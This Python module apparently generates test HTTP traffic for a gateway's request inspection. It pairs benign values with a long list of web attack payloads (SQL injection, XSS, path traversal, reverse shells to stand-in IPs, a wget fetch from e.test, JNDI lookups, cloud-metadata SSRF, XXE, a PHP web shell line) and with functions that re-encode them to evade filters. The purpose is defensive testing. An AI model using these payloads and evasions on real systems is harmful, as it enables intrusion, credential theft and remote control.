"""Requests as bytes on a wire, for `agreement`: from labelled records, and made up: benign ones, attacks written down in
many spellings and places, and odd framings, types and heads. The seed is fixed, so that runs compare.
"""

from __future__ import annotations

import json
import random
from collections.abc import Callable, Iterator
from pathlib import Path
from urllib.parse import quote, quote_plus
from xml.sax.saxutils import escape

from gateway.inspect import as_bytes, records

AGENTS = ("Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0", "curl/8.5.0", "okhttp/4.12.0", "python-requests/2.32", "sqlmap/1.8",
          "Nikto/2.5.0", "", "PostmanRuntime/7.39", "Java/17.0.2", "Wget/1.21")  # fmt: skip
WORDS = ("order", "name", "Ana O'Neil", "select a size", "a=b", "10 < 20", "C++ & C#", "https://example.com/x?y=z", "été", "日本語",
         "2026-01-02T03:04:05Z", "550e8400-e29b-41d4-a716-446655440000", "user@example.com", "-1", "3.14", "true", "null",
         "one, two; three", "(555) 010-9999", "50%", "#1", "../img/a.png", "<b>bold</b>", "if x or y and not z", "$19.99",
         "line one\nline two", "a\tb", "SELECT", "union jack", "drop me a line", "cat food", "ls", "eval", "{{name}}", "$(x)",
         "http://127.0.0.1:8080/", "data:image/png;base64,iVBORw0KGgo=", "\\server\\share", "~/file", "a||b", "x--y", "/* note */")  # fmt: skip
ATTACKS = (
    "1' or '1'='1", "1 or 1=1--", "') union select null,version()-- -", "1; drop table users", "admin'/*", "sleep(5)#",
    "1 and extractvalue(1,concat(0x7e,user()))", "x' and benchmark(1000000,md5(1))#", "1 group by 1 having 1=1",
    "-1 union all select 1,2,group_concat(table_name) from information_schema.tables", "'; exec xp_cmdshell('dir')--",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg/onload=confirm(1)>', "javascript:alert(1)",
    "<iframe src=//evil.test>", "<a href='vbscript:x'>", "';alert(document.cookie)//", "<style>@import'x'</style>",
    "<object data=x>", "<form action=//e.test><button>", "expression(alert(1))", "<math><mtext></form>",
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow", "file:///etc/hosts", "....//....//etc/passwd",
    "/proc/self/environ", "C:\\boot.ini", ".htaccess", "WEB-INF/web.xml", ".git/config", "id_rsa",
    ";cat /etc/passwd", "|id", "`whoami`", "$(uname -a)", "&& wget http://e.test/x.sh", "() { :;}; echo x", "; nc -e /bin/sh 1.2.3.4 9",
    "|| ping -c 3 127.0.0.1", "powershell -enc SQBFAFgA", "cmd.exe /c dir", "bash -i >& /dev/tcp/1.2.3.4/9 0>&1", ";ls${IFS}-la",
    "<?php system($_GET['c']); ?>", "php://input", "phpinfo()", "base64_decode('eA==')", 'O:8:"stdClass":1:{s:1:"a";i:1;}',
    "eval(String.fromCharCode(97))", "require('child_process').exec('id')", "process.mainModule.require", "_$$ND_FUNC$$_function(){}",
    "${jndi:ldap://e.test/a}", 'java.lang.Runtime.getRuntime().exec("id")', "%{(#a=1)}", "rO0ABXNyAA==", "T(java.lang.Runtime)",
    "http://169.254.169.254/latest/meta-data/", "http://10.0.0.1/admin", "ftp://1.2.3.4/x.php?", "https://e.test/shell.txt?",
    "x\r\nSet-Cookie: a=b", "x\nLocation: http://e.test", "a%0d%0aContent-Length: 0", "HTTP/1.1 200 OK", "*)(uid=*))(|(uid=*",
    '<!--#exec cmd="id"-->', "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>", "\0", "a\0b", "PHPSESSID=1234", "jsessionid=1",
    "%c0%af", "\u212a\uff1cscript\uff1e", "1/**/or/**/1=1", "CHAR(65,66)", "0x3c736372697074", "waitfor delay '0:0:5'", '{"$ne": null}',
    "true,$where:'1==1'", "<% out.print(1) %>", "#{7*7}", "[[${7*7}]]", "__proto__[x]=1", "constructor.prototype", "@@version",
)  # fmt: skip
METHODS = ("GET", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "HEAD", "TRACE", "CONNECT", "PROPFIND", "FOO")
TYPES = ("application/json", "application/json; charset=utf-8", "application/x-www-form-urlencoded", "text/xml", "application/xml",
         "application/soap+xml", "multipart/form-data; boundary=XyZ", "text/plain", "application/octet-stream", "application/graphql",
         "application/vnd.api+json", "text/html", "application/x-www-form-urlencoded; charset=ibm037", "image/png", "")  # fmt: skip

Make = random.Random


def from_records(file: Path) -> Iterator[bytes]:
    for record in records(str(file)):
        if record.raw is not None:
            yield as_bytes(record.raw, "latin-1")
            continue
        given = list(record.headers.items()) if isinstance(record.headers, dict) else list(record.headers)
        pairs: list[tuple[str, str]] = []
        for name, value in given:
            pairs += [(name, one) for one in (value if isinstance(value, list) else [value])]
        pairs = [
            (n, v) for n, v in pairs if n.lower() not in ("content-length", "transfer-encoding", "connection", "expect")
        ]
        body = as_bytes(record.body or "")
        target = as_bytes(record.path) + (b"?" + as_bytes(record.query) if record.query else b"")
        head = [
            as_bytes(record.method)
            + b" "
            + quote(target, safe="".join(map(chr, range(33, 127)))).encode()
            + b" HTTP/1.1"
        ]
        if not any(n.lower() == "host" for n, _ in pairs):
            head.append(b"Host: localhost")
        head += [as_bytes(n, "latin-1") + b": " + as_bytes(v, "latin-1") for n, v in pairs]
        if body or record.method in ("POST", "PUT", "PATCH"):
            head.append(b"Content-Length: %d" % len(body))
        yield b"\r\n".join(head) + b"\r\n\r\n" + body


def generated(count: int, seed: int = 7) -> Iterator[bytes]:
    make = random.Random(seed)
    for _ in range(count):
        yield _request(make)


def _request(make: Make) -> bytes:
    hostile = make.random() < 0.6
    value = _spelled(make, make.choice(ATTACKS)) if hostile else make.choice(WORDS)
    place = make.choice(
        ("query", "query", "form", "json", "json", "xml", "multipart", "cookie", "header", "path", "name", "text")
    )
    method = (
        make.choice(METHODS)
        if make.random() < 0.15
        else ("GET" if place in ("query", "cookie", "header", "path", "name") else "POST")
    )
    path, query, headers, body = "/api/items/42", "", [("Host", "shop.example.com")], b""
    if make.random() < 0.9:
        headers.append(("User-Agent", make.choice(AGENTS)))
    if make.random() < 0.9:
        headers.append(("Accept", make.choice(("*/*", "application/json", "text/html,*/*;q=0.8", ""))))
    name = make.choice(("q", "id", "user.name", "filter[x]", "file", "page", "_method", "comment", "url", "cmd"))
    if place == "query":
        query = f"{name}={_quoted(make, value)}&page={make.randint(1, 9)}"
    elif place == "name":
        query = f"{_quoted(make, value)}=1"
    elif place == "path":
        path = f"/files/{_quoted(make, value, path=True)}"
    elif place == "cookie":
        headers.append(
            (
                "Cookie",
                f"session=abc123; {make.choice(('pref', '__utma', '_pk_ref.1', 'x'))}={quote(value, safe=' <>()=:/')}",
            )
        )
    elif place == "header":
        headers.append((make.choice(("X-Forwarded-For", "Referer", "X-Api-Version", "X-Filename", "Range", "Authorization", "User-Agent")),
                        value.translate({10: " ", 13: " ", 0: ""})))  # fmt: skip
    else:
        kind, body = _body(make, place, name, value)
        if make.random() < 0.1:
            kind = make.choice(TYPES)
        if kind:
            headers.append(("Content-Type", kind))
        query = make.choice(("", "", f"v={make.randint(1, 3)}"))
    _odd(make, headers)
    if body or method == "POST":
        headers.append(("Content-Length", str(len(body))))
    version = "HTTP/1.0" if make.random() < 0.03 else "HTTP/1.1"
    target = path + ("?" + query if query else "")
    make.shuffle(headers)
    lines = [f"{method} {target} {version}".encode("utf-8", "surrogateescape")]
    lines += [f"{n}: {v}".encode("utf-8", "surrogateescape") for n, v in headers]
    return b"\r\n".join(lines) + b"\r\n\r\n" + body


def _odd(make: Make, headers: list[tuple[str, str]]) -> None:
    if make.random() > 0.12:
        return
    headers.append(
        make.choice(
            (("Connection", "keep-alive, close"), ("Content-Encoding", "gzip"), ("X-Forwarded-Host", "a, b"), ("Range", "bytes=0-1,2-3,4-5,6-7,8-9,10-11"),
             ("Request-Range", "bytes=5-2"), ("If", "x"), ("Proxy", "http://e.test"), ("Lock-Token", "1"), ("Cache-Control", "no-cache, max-age=x"),
             ("Accept-Charset", "utf-8"), ("Content-Range", "bytes 0-1/2"), ("X_Under_Score", "1"), ("Cookie", "$Version=1; a=b"),
             ("Translate", "f"), ("Sec-Fetch-User", "?1"), ("Accept-Language", "de;q=0.5"), ("X-Empty", ""), ("Upgrade", "h2c"))
        )
    )  # fmt: skip


def _spelled(make: Make, text: str) -> str:
    """The attack in another spelling."""
    ways: tuple[Callable[[str], str], ...] = (
        lambda t: t,
        lambda t: t,
        lambda t: "".join(make.choice((c.upper(), c.lower())) for c in t),
        lambda t: t.replace(" ", "/**/"),
        lambda t: t.replace(" ", make.choice(("\t", "  ", "\n", "\x0b", "\xa0"))),
        lambda t: quote(t, safe=""),
        lambda t: "".join(f"%u{ord(c):04x}" if make.random() < 0.5 else c for c in t),
        lambda t: "".join(f"&#{ord(c)};" if make.random() < 0.4 else c for c in t),
        lambda t: "".join(f"&#x{ord(c):x};" if make.random() < 0.4 else c for c in t),
        lambda t: "".join(f"\\x{ord(c) & 255:02x}" if make.random() < 0.3 else c for c in t),
        lambda t: "".join(f"\\u{ord(c):04x}" if make.random() < 0.3 else c for c in t),
        lambda t: "".join(chr(0xFEE0 + ord(c)) if 0x20 < ord(c) < 0x7F and make.random() < 0.5 else c for c in t),
        lambda t: t[: len(t) // 2] + make.choice(("\\", "'", "^", '"', "\0", "%00")) + t[len(t) // 2 :],
        lambda t: f"{make.choice(WORDS)} {t} {make.choice(WORDS)}",
        lambda t: t * 2,
    )
    return make.choice(ways)(text)


def _quoted(make: Make, text: str, *, path: bool = False) -> str:
    raw = text.encode("utf-8", "surrogatepass")
    if path:
        return quote(raw, safe="/.;:@<>'()\\*")
    how = make.random()
    if how < 0.6:
        return quote_plus(raw)
    if how < 0.7:
        return quote(quote(raw, safe=""), safe="")
    if how < 0.8:
        return "".join(f"%{byte:02X}" for byte in raw)
    return quote(raw, safe="<>'\"();:/\\|$*!,=@[]{}^`~")


def _body(make: Make, place: str, name: str, value: str) -> tuple[str, bytes]:
    raw = value.encode("utf-8", "surrogatepass")
    if place == "form":
        return (
            "application/x-www-form-urlencoded",
            f"a=1&{name}={_quoted(make, value)}&b={quote_plus(make.choice(WORDS))}".encode(),
        )
    if place == "json":
        shape = make.choice(
            (
                {"item": {name: value, "n": 1.50}},
                [1, value, {"deep": [value]}],
                {name: value, "tags": ["a", None, True]},
                value,
                {value: 1},
            )
        )
        text = json.dumps(shape, ensure_ascii=make.random() < 0.5)
        if make.random() < 0.06:
            text = make.choice(
                (text[:-1], text + "x", text.replace(":", "", 1), "{" + text, "\ufeff" + text, text.replace('"', "'"))
            )
        return "application/json", text.encode("utf-8", "surrogatepass")
    if place == "xml":
        text = f'<?xml version="1.0"?><r a="{escape(value, {chr(34): "&quot;"})}"><n>{escape(value)}</n><c>x</c></r>'
        text = "".join(c for c in text if c in "\t\n\r" or ord(c) >= 32)
        if make.random() < 0.06:
            text = make.choice((text[:-2], text + "<x>", text.replace("<c>", "<c"), "x" + text))
        return "text/xml", text.encode("utf-8", "surrogatepass")
    if place == "multipart":
        safe = raw.replace(b"\r", b"").replace(b"\n", b"") if make.random() < 0.8 else raw
        filename = b'; filename="' + safe.replace(b'"', b"%22") + b'"' if make.random() < 0.3 else b""
        end = b"\r\n" if make.random() < 0.95 else b"\n"
        parts = [b"--XyZ", b'Content-Disposition: form-data; name="' + name.encode() + b'"' + filename]
        if make.random() < 0.3:
            parts.append(
                make.choice(
                    (
                        b"Content-Type: text/plain",
                        b"Content-Type: application/x-php",
                        b"Content-Transfer-Encoding: base64",
                        b"X: y",
                    )
                )
            )
        parts += [b"", safe, b"--XyZ", b'Content-Disposition: form-data; name="z"', b"", b"1", b"--XyZ--", b""]
        body = end.join(parts)
        if make.random() < 0.08:
            body = make.choice(
                (
                    body[:-4],
                    body + b"x",
                    b"x" + end + body,
                    body.replace(b"form-data", b"attachment", 1),
                    body.replace(b"--XyZ", b"--XyZ ", 1),
                )
            )
        boundary = make.choice(("XyZ", "XyZ", "XyZ", '"XyZ"', "XyZ ", "Abc"))
        return f"multipart/form-data; boundary={boundary}", body
    return make.choice(("text/plain", "application/octet-stream", "")), raw
